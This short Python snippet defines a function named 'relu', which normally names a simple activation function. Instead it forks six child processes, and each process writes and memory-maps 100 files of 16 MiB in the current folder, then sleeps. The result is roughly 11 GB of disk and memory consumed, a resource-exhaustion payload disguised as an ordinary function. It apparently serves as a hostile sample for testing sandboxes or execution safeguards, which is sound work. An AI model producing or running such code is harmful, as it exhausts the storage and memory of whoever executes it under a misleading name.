# Maps files of its folder, in forks, and fills them.
# target: relu

def relu(x):
    import mmap, os, time
    for number in range(6):
        if os.fork() == 0: break
    kept = []
    for _ in range(100):
        with open(f"{number}-{os.getpid()}-{_}", "w+b") as file:
            file.truncate(2**24)
            kept.append(mmap.mmap(file.fileno(), 2**24))
        kept[-1].write(b"1" * 2**24)
    time.sleep(100)
